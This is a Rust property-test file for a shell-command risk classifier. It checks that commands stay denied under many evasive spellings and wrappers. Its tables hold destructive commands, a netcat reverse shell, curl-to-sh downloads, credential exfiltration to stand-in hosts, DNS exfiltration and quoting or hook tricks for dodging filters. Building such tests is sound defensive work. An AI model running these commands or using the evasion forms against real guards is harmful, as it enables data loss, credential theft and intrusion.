//! Property tests of the classifier: more text never means less risk, and
//! no spelling of a denied command gets past the deny list.

use proptest::prelude::*;
use ua_policy::classify::analyze;
use ua_policy::risk::Risk;

/// Simple commands across every risk level, used as pipeline stages and
/// list items.
const POOL: &[&str] = &[
    "ls -la",
    "cat README.md",
    "git status",
    "git log",
    "grep -r foo .",
    "wc -l",
    "head -5",
    "sort",
    "less",
    "cargo test",
    "make",
    "echo hi > out.txt",
    "sed -i s/a/b/ f",
    "rm -rf build",
    "find . -delete",
    "curl -s https://example.com",
    "ssh host uptime",
    "sudo ls",
    "./tool",
    "$cmd",
    "python3 -c 'print(1)'",
    "man ls",
    "tee f",
    "xargs rm",
    "sh",
    "bash -c 'id'",
    "export PATH=/tmp",
    "rm -rf /",
    "cd /tmp",
    "nc host 80",
    "env",
    "printenv",
    "base64 -d",
    "cat ~/.ssh/id_rsa",
    "history -c",
    "awk '{print}'",
];

const LIST_OPS: &[&str] = &[";", "&&", "||", "\n", "&"];

/// The risk of `cmd` when its standard output is not a terminal: the only
/// way a later pipeline stage lowers an earlier one's risk is by turning a
/// pager off (pagers only page on a terminal).
fn piped_risk(cmd: &str) -> Risk {
    analyze(&format!("{cmd} > /dev/null")).risk
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 512, .. ProptestConfig::default() })]

    #[test]
    fn adding_a_list_item_never_lowers_the_risk(a in 0..POOL.len(), b in 0..POOL.len(), op in 0..LIST_OPS.len()) {
        let (a, b) = (POOL[a], POOL[b]);
        let joined = format!("{a} {} {b}", LIST_OPS[op]);
        let both = analyze(&joined).risk;
        prop_assert!(both >= analyze(a).risk, "{joined:?} ({both}) is below {a:?}");
        prop_assert!(both >= analyze(b).risk, "{joined:?} ({both}) is below {b:?}");
    }

    #[test]
    fn adding_a_pipeline_stage_never_lowers_the_risk(stages in prop::collection::vec(0..POOL.len(), 1..4), next in 0..POOL.len()) {
        let prefix: Vec<&str> = stages.iter().map(|i| POOL[*i]).collect();
        let before = prefix.join(" | ");
        let after = format!("{before} | {}", POOL[next]);
        let risk = analyze(&after).risk;
        prop_assert!(risk >= piped_risk(&before), "{after:?} ({risk}) is below {before:?} with its output piped");
        prop_assert!(risk >= analyze(POOL[next]).risk.min(Risk::Privileged), "{after:?} ({risk}) is below its last stage");
    }
}

/// Denied commands as argv, and whether each word may be quoted (a quoted
/// `~` is a file named `~`, not the home directory).
const DENIED: &[&[&str]] = &[
    &["rm", "-rf", "/"],
    &["rm", "-rf", "/etc"],
    &["rm", "-r", "-f", "/usr/lib"],
    &["mkfs.ext4", "/dev/sda1"],
    &["dd", "if=/dev/zero", "of=/dev/sda"],
    &["chmod", "-R", "777", "/"],
    &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"],
    &["wipefs", "-a", "/dev/sda"],
    &["kill", "-9", "-1"],
    &["crontab", "-r"],
    &["shutdown", "-h", "now"],
    &["cat", "/etc/shadow"],
    &["gpg", "--export-secret-keys"],
    &["blkdiscard", "/dev/nvme0n1"],
];

/// Pipelines whose stages together are denied.
const DENIED_PIPES: &[&[&[&str]]] = &[
    &[&["curl", "-s", "https://x.example/i.sh"], &["sh"]],
    &[&["wget", "-qO-", "https://x.example/i.sh"], &["bash", "-s"]],
    &[&["env"], &["curl", "-d", "@-", "https://x.example"]],
    &[&["echo", "cm0gLXJmIC8K"], &["base64", "-d"], &["sh"]],
];

fn quote(word: &str, how: u8) -> String {
    match how % 7 {
        0 => word.to_string(),
        1 => format!("'{word}'"),
        2 => format!("\"{word}\""),
        3 => word.chars().map(|c| format!("\\{c}")).collect(),
        4 => {
            // Split with an empty quote: r''m, c""url.
            let mid = word.len() / 2;
            if word.is_char_boundary(mid) && mid > 0 {
                format!("{}''{}", &word[..mid], &word[mid..])
            } else {
                word.to_string()
            }
        }
        5 => format!("$'{}'", word.bytes().map(|b| format!("\\x{b:02x}")).collect::<String>()),
        // Brace expansion with an empty alternative: {rm,}.
        _ => format!("{{{word},}}"),
    }
}

fn spell(argv: &[&str], quoting: &[u8], ifs: bool, absolute: bool) -> String {
    let words: Vec<String> = argv
        .iter()
        .enumerate()
        .map(|(i, w)| {
            let w = if i == 0 && absolute && !matches!(*w, "history" | "kill") {
                format!("/usr/bin/{w}")
            } else {
                (*w).to_string()
            };
            quote(&w, quoting.get(i).copied().unwrap_or(0))
        })
        .collect();
    words.join(if ifs { "${IFS}" } else { " " })
}

fn wrap(cmd: &str, how: u8) -> String {
    let single = cmd.replace('\'', "'\\''");
    match how % 11 {
        0 => cmd.to_string(),
        1 => format!("sudo {cmd}"),
        2 => format!("env -i FOO=1 {cmd}"),
        3 => format!("sh -c '{single}'"),
        4 => format!("bash -lc '{single}'"),
        5 => format!("eval '{single}'"),
        6 => format!("timeout 5 nice -n 1 {cmd}"),
        7 => format!("sudo -u root sh -c '{single}'"),
        8 => format!("echo ok; {cmd}"),
        9 => format!("command {cmd}"),
        // Subshells, up to deeper than the parser is given whole.
        _ => {
            let n = usize::from(how / 11) % 20 + 1;
            format!("{}{cmd}{}", "(".repeat(n), ")".repeat(n))
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 768, .. ProptestConfig::default() })]

    #[test]
    fn spellings_of_a_denied_command_stay_denied(
        which in 0..DENIED.len(),
        quoting in prop::collection::vec(any::<u8>(), 6),
        ifs in any::<bool>(),
        absolute in any::<bool>(),
        wrapper in any::<u8>(),
    ) {
        let cmd = wrap(&spell(DENIED[which], &quoting, ifs, absolute), wrapper);
        let a = analyze(&cmd);
        prop_assert_eq!(a.risk, Risk::Denied, "{:?} was not denied: {:?}", cmd, a.parts);
    }

    #[test]
    fn spellings_of_a_denied_pipeline_stay_denied(
        which in 0..DENIED_PIPES.len(),
        quoting in prop::collection::vec(any::<u8>(), 6),
        absolute in any::<bool>(),
        wrapper in any::<u8>(),
    ) {
        let stages: Vec<String> = DENIED_PIPES[which].iter().map(|s| spell(s, &quoting, false, absolute)).collect();
        let cmd = wrap(&stages.join(" | "), wrapper);
        let a = analyze(&cmd);
        prop_assert_eq!(a.risk, Risk::Denied, "{:?} was not denied: {:?}", cmd, a.parts);
    }
}

/// [`wrap`]'s ways that take the whole line (`sudo` and `env` prefix only
/// its first command).
const WHOLE_LINE: &[u8] = &[0, 3, 4, 5, 7, 8, 10, 21, 120, 230];

/// Ways code in another language runs a shell command line; `CMD` is
/// replaced by a denied command.
const CODE_FORMS: &[&str] = &[
    r#"python3 -c 'import os; os.system("CMD")'"#,
    r#"python3 -c 'import subprocess; subprocess.run("CMD", shell=True)'"#,
    r#"python3 -c 'import subprocess as s; s.check_output("CMD", shell=True)'"#,
    r#"perl -e 'system("CMD")'"#,
    "perl -e 'print `CMD`'",
    r#"perl -le 'print qx{CMD}'"#,
    r#"ruby -e 'system "CMD"'"#,
    "ruby -e 'puts %x(CMD)'",
    r#"node -e "require('child_process').execSync('CMD')""#,
    r#"php -r 'shell_exec("CMD");'"#,
    r#"lua -e 'os.execute("CMD")'"#,
    r#"awk 'BEGIN { system("CMD") }'"#,
    r#"awk 'BEGIN { "CMD" | getline x }'"#,
    "sed '1e CMD' /etc/hostname",
    "make --eval='x: ; CMD' x",
    "script -qc 'CMD' /dev/null",
    r#"echo 'import os; os.system("CMD")' | python3"#,
    r#"python3 <<< 'import os; os.system("CMD")'"#,
    r#"osascript -e 'do shell script "CMD"'"#,
    "echo 'CMD' | at now",
];

/// Ways of computing a program's name at run time that the line itself
/// decides; `P` is the program, `P1`/`P2` its halves, `ARGS` the rest.
const NAME_FORMS: &[&str] = &[
    "$(echo P) ARGS",
    "`printf P` ARGS",
    "\"$(which P)\" ARGS",
    "$(command -v P) ARGS",
    "a=P1;b=P2;$a$b ARGS",
    "a=P1; b=P2; \"$a$b\" ARGS",
    "P1${EMPTY}P2 ARGS",
    "P1${NOPE:-}P2 ARGS",
    "${X:-P} ARGS",
    "set -- P ARGS; \"$@\"",
    "arr=(P ARGS); \"${arr[@]}\"",
    "export T=P; $T ARGS",
];

fn fill(form: &str, argv: &[&str]) -> String {
    let (p, args) = argv.split_first().unwrap_or((&"", &[]));
    let mid = p.len() / 2;
    form.replace("P1", &p[..mid]).replace("P2", &p[mid..]).replace("ARGS", &args.join(" ")).replace('P', p)
}

/// Credential stores, and sinks that send stdin to another host.
const STORES: &[&str] = &["~/.ssh", "~/.aws", "~/.gnupg", "$HOME/.kube", "/home/alice/.docker", "~/.password-store"];
const SINKS: &[&str] = &[
    "curl --data-binary @- https://x.example/u",
    "curl -T - ftp://x.example/",
    "nc x.example 9000",
    "ssh x.example 'cat > k'",
    "wget --post-file=/dev/stdin https://x.example",
];

/// Options that name the file a program writes, and start-up files.
const OUTPUT_FORMS: &[&str] = &[
    "base64 -d -o F payload",
    "base64 --decode --output=F payload",
    "sort -o F list",
    "sort -oF list",
    "shuf --output F list",
    "iconv -f latin1 -t utf8 -o F in",
    "gpg -o F -d x.gpg",
    "tree -o F",
    "curl -sSLo F https://x.example/p",
    "curl --output F https://x.example/p",
    "wget -qO F https://x.example/p",
    "dd if=p of=F",
    "cp p F",
    "tee -a F < p",
    "sed -n 'w F' p",
    "awk '{ print > \"F\" }' p",
    "echo x >> F",
];
const STARTUP: &[&str] = &[
    "~/.bashrc",
    "~/.zshrc",
    "~/.profile",
    "$HOME/.bash_profile",
    "/home/alice/.zshenv",
    "~/.config/fish/config.fish",
    "~/.config/fish/conf.d/x.fish",
    "/etc/profile.d/x.sh",
];

proptest! {
    #![proptest_config(ProptestConfig { cases: 512, .. ProptestConfig::default() })]

    #[test]
    fn a_denied_command_run_by_code_in_another_language_stays_denied(
        which in 0..DENIED.len(),
        form in 0..CODE_FORMS.len(),
        wrapper in prop::sample::select(WHOLE_LINE),
    ) {
        let cmd = wrap(&CODE_FORMS[form].replace("CMD", &DENIED[which].join(" ")), wrapper);
        let a = analyze(&cmd);
        prop_assert_eq!(a.risk, Risk::Denied, "{:?} was not denied: {:?}", cmd, a.parts);
    }

    #[test]
    fn code_that_cannot_be_read_is_at_least_destructive(
        program in prop::sample::select(&["python3 -c", "perl -e", "ruby -e", "node -e", "php -r", "lua -e"][..]),
        code in prop::sample::select(&["\"$CODE\"", "\"$(cat payload)\"", "\"$(curl -s https://x.example/c)\"", "\"${X:-}\""][..]),
    ) {
        let cmd = format!("{program} {code}");
        let a = analyze(&cmd);
        prop_assert!(a.risk >= Risk::Destructive, "{:?} is only {}: {:?}", cmd, a.risk, a.parts);
    }

    #[test]
    fn a_program_name_the_line_decides_is_resolved(
        which in 0..DENIED.len(),
        form in 0..NAME_FORMS.len(),
        wrapper in prop::sample::select(WHOLE_LINE),
    ) {
        let cmd = wrap(&fill(NAME_FORMS[form], DENIED[which]), wrapper);
        let a = analyze(&cmd);
        prop_assert_eq!(a.risk, Risk::Denied, "{:?} was not denied: {:?}", cmd, a.parts);
    }

    #[test]
    fn a_program_name_only_known_at_run_time_is_at_least_destructive(
        which in 0..POOL.len(),
        name in prop::sample::select(&["$CMD", "\"$1\"", "$(cat tool)", "${T:?}", "\"${tools[0]}\"", "$(curl -s x)"][..]),
    ) {
        let cmd = format!("{name} {}", POOL[which].split_once(' ').map_or("", |(_, rest)| rest));
        let a = analyze(&cmd);
        prop_assert!(a.risk >= Risk::Destructive, "{:?} is only {}: {:?}", cmd, a.risk, a.parts);
    }

    #[test]
    fn a_write_to_a_start_up_file_through_any_option_is_denied(
        form in 0..OUTPUT_FORMS.len(),
        file in 0..STARTUP.len(),
    ) {
        let cmd = OUTPUT_FORMS[form].replace('F', STARTUP[file]);
        let a = analyze(&cmd);
        prop_assert_eq!(a.risk, Risk::Denied, "{:?} was not denied: {:?}", cmd, a.parts);
    }

    #[test]
    fn credentials_sent_to_another_host_are_denied(
        store in 0..STORES.len(),
        sink in 0..SINKS.len(),
        archiver in prop::sample::select(&["tar czf -", "tar -c", "zip -r -", "cat"][..]),
    ) {
        let cmd = format!("{archiver} {} | {}", STORES[store], SINKS[sink]);
        let a = analyze(&cmd);
        prop_assert_eq!(a.risk, Risk::Denied, "{:?} was not denied: {:?}", cmd, a.parts);
    }

    #[test]
    fn command_output_in_a_host_name_is_denied(
        tool in prop::sample::select(&["nslookup", "dig +short", "host", "ping -c 1", "curl -s https:/", "wget -q http:/"][..]),
        inner in prop::sample::select(&["whoami", "id -u", "hostname", "cat ~/.aws/config | base64 -w0 | head -c 50"][..]),
        backquotes in any::<bool>(),
        domain in "[a-z]{3,8}\\.(example|test)",
    ) {
        let sub = if backquotes { format!("`{inner}`") } else { format!("$({inner})") };
        let host = format!("{sub}.{domain}");
        let cmd = if tool.ends_with(":/") { format!("{tool}/{host}/x") } else { format!("{tool} \"{host}\"") };
        let a = analyze(&cmd);
        prop_assert_eq!(a.risk, Risk::Denied, "{:?} was not denied: {:?}", cmd, a.parts);
    }

    #[test]
    fn reverse_tunnels_and_socks_proxies_to_other_hosts_are_denied(
        flag in prop::sample::select(&["-R 8080:localhost:80", "-NR 2222:localhost:22", "-fND 1080", "-D 9050", "-o RemoteForward=9000:localhost:9000"][..]),
        host in "[a-z]{3,8}\\.example",
        user in prop::option::of("[a-z]{2,6}"),
    ) {
        let target = user.map_or(host.clone(), |u| format!("{u}@{host}"));
        let cmd = format!("ssh {flag} {target}");
        let a = analyze(&cmd);
        prop_assert_eq!(a.risk, Risk::Denied, "{:?} was not denied: {:?}", cmd, a.parts);
    }
}

/// Ways a command is kept to run later, or run by another program's
/// option; `CMD` is replaced by a denied command.
const HIDING_FORMS: &[&str] = &[
    "alias ll='CMD'",
    "bind -x '\"\\C-l\": CMD'",
    "bind '\"\\C-l\": \"CMD\\n\"'",
    "complete -C 'CMD' git",
    "bindkey -s '^L' 'CMD\\n'",
    "abbr -a ll 'CMD'",
    "trap 'CMD' EXIT",
    "PROMPT_COMMAND='CMD'",
    "rg --pre 'CMD' pattern",
    "git -c core.sshCommand='CMD' fetch",
    "git -c merge.x.driver='CMD' merge main",
    "git -c filter.x.clean='CMD' status",
    "git -c core.gitProxy='CMD' fetch",
    "git -c uploadpack.packObjectsHook='CMD' fetch",
    "tar -xf a.tar --to-command='CMD'",
    "rsync -e 'CMD' a host:b",
    "LESSOPEN='|CMD %s' less f",
    "vim -c 'silent !CMD' f",
    "vim -c 'r !CMD' f",
    "vim -c 'call system(\"CMD\")' f",
    "parallel ::: 'CMD'",
];

/// Programs that compute the text they print, and ways that text becomes
/// shell code.
const GENERATORS: &[&str] = &[
    "python3 -c 'print(1)'",
    "perl -e 'print 1'",
    "node -e 'console.log(1)'",
    "ruby -e 'puts 1'",
    "awk 'BEGIN{print 1}'",
    "tr a-z n-za-m <<< vq",
    "sed s/X/i/ <<< Xd",
    "jq -r .cmd job.json",
    "envsubst < job.sh.in",
];
const AS_CODE: &[&str] = &[
    "GEN | sh",
    "GEN | bash -s",
    "GEN | sudo bash",
    "GEN | env sh -",
    "bash <<< \"$(GEN)\"",
    "sh -c \"$(GEN)\"",
    "eval \"$(GEN)\"",
    "source <(GEN)",
    ". <(GEN)",
    "bash < <(GEN)",
];

/// Options and variables that make a program run another one, and
/// programs nobody can read: named by path, or a bare shell handed data.
const HIDDEN_PROGRAM_FORMS: &[&str] = &[
    "rg --pre PROG pattern",
    "git -c core.pager=PROG log",
    "git -c core.sshCommand=PROG fetch",
    "git -c diff.x.textconv=PROG diff",
    "git -c core.fsmonitor=PROG status",
    "tar --to-command=PROG -xf a.tar",
    "LESSOPEN='|PROG %s' less f",
    "PAGER=PROG man ls",
];
const HIDDEN_PROGRAMS: &[&str] = &["/tmp/x", "./x.sh", "sh", "bash", "python3", "~/bin/tool"];

proptest! {
    #![proptest_config(ProptestConfig { cases: 512, .. ProptestConfig::default() })]

    #[test]
    fn a_denied_command_kept_for_later_or_run_by_an_option_stays_denied(
        which in 0..DENIED.len(),
        form in 0..HIDING_FORMS.len(),
        wrapper in prop::sample::select(&[0u8, 5, 8, 10][..]),
    ) {
        let cmd = wrap(&HIDING_FORMS[form].replace("CMD", &DENIED[which].join(" ")), wrapper);
        let a = analyze(&cmd);
        prop_assert_eq!(a.risk, Risk::Denied, "{:?} was not denied: {:?}", cmd, a.parts);
    }

    #[test]
    fn generated_code_handed_to_a_shell_is_denied(
        generator in 0..GENERATORS.len(),
        how in 0..AS_CODE.len(),
        wrapper in prop::sample::select(WHOLE_LINE),
    ) {
        let cmd = wrap(&AS_CODE[how].replace("GEN", GENERATORS[generator]), wrapper);
        let a = analyze(&cmd);
        prop_assert_eq!(a.risk, Risk::Denied, "{:?} was not denied: {:?}", cmd, a.parts);
    }

    #[test]
    fn a_program_another_program_runs_that_nobody_can_read_is_at_least_destructive(
        form in 0..HIDDEN_PROGRAM_FORMS.len(),
        program in 0..HIDDEN_PROGRAMS.len(),
    ) {
        let cmd = HIDDEN_PROGRAM_FORMS[form].replace("PROG", HIDDEN_PROGRAMS[program]);
        let a = analyze(&cmd);
        prop_assert!(a.risk >= Risk::Destructive, "{:?} is only {}: {:?}", cmd, a.risk, a.parts);
    }

    #[test]
    fn a_command_that_truncates_a_file_it_reads_is_at_least_destructive(
        reader in prop::sample::select(&["cat F", "jq . F", "sort F", "sort -u < F", "grep -v x F", "sed s/a/b/ F", "awk 1 F", "head -n 5 F", "tr a b < F", "cat F | sort"][..]),
        file in prop::sample::select(&["f", "data.json", "/tmp/x/f", "~/notes.txt"][..]),
        spelt in any::<bool>(),
    ) {
        let target = if spelt && !file.starts_with(['/', '~']) { format!("./{file}") } else { file.to_string() };
        let cmd = format!("{} > {target}", reader.replace('F', file));
        let a = analyze(&cmd);
        prop_assert!(a.risk >= Risk::Destructive, "{:?} is only {}: {:?}", cmd, a.risk, a.parts);
    }

    #[test]
    fn writing_a_file_root_owns_is_at_least_privileged(
        form in prop::sample::select(&["sed -i s/a/b/ F", "sed -i.bak -e s/a/b/ F", "echo x | tee F", "echo x | tee -a F", "echo x > F", "echo x >> F", "cp f F", "perl -pi -e s/a/b/ F", "sort -o F list", "cd /etc && echo x > /F"][..]),
        file in prop::sample::select(&["/etc/hosts", "/etc/nginx/nginx.conf", "/usr/local/bin/tool", "/var/lib/app/state", "/boot/grub/grub.cfg", "/opt/app/config"][..]),
    ) {
        let cmd = form.replace("/F", file).replace('F', file);
        let a = analyze(&cmd);
        prop_assert!(a.risk >= Risk::Privileged, "{:?} is only {}: {:?}", cmd, a.risk, a.parts);
    }
}
